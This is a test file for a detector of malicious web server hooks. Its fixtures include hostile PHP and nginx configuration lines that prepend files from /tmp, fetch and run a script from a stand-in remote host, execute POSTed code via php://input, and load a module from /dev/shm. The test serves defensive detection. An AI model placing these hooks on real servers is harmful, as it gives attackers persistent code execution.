import { expect, test } from 'vitest';
import { because, openSightings, sightings } from '../../../tests/told.ts';
import { webServerHooks } from './web-server-hooks.ts';

test('what is put before every page from a strange place is told openly', () => {
  expect(
    openSightings(webServerHooks, {
      '/var/www/a/.user.ini': 'auto_prepend_file = "/tmp/.sess_1"\n',
      '/var/www/b/.htaccess': 'php_value auto_prepend_file http://198.51.100.7/a.txt\n',
      '/var/www/c/.htaccess': 'php_value auto_append_file php://input\n',
      '/etc/nginx/nginx.conf': 'load_module /dev/shm/ngx.so;\n',
    }),
  ).toMatchObject([
    { path: '/etc/nginx/nginx.conf', ...because('from-temporary-folder') },
    { path: '/var/www/a/.user.ini', ...because('from-temporary-folder') },
    { path: '/var/www/b/.htaccess', ...because('fetches-and-runs') },
    { path: '/var/www/c/.htaccess', ...because('lets-in') },
  ]);
});

test('a firewall for PHP, modules of the server and a rotated log say nothing openly', () => {
  const files = {
    '/var/www/a/.user.ini': "auto_prepend_file = '/var/www/a/wordfence-waf.php'\n",
    '/var/www/a/wordfence-waf.php': '',
    '/etc/php/8.2/fpm/php.ini': '; x\nauto_prepend_file =\nauto_append_file =\n',
    '/etc/apache2/mods-enabled/php.load': 'LoadModule php_module /usr/lib/apache2/modules/libphp8.so\n',
    '/etc/apache2/sites-enabled/a.conf': 'CustomLog "|/usr/bin/rotatelogs /var/log/a 86400" combined\n',
  };
  expect(openSightings(webServerHooks, files)).toEqual([]);
  expect(sightings(webServerHooks, files)).toHaveLength(2);
});
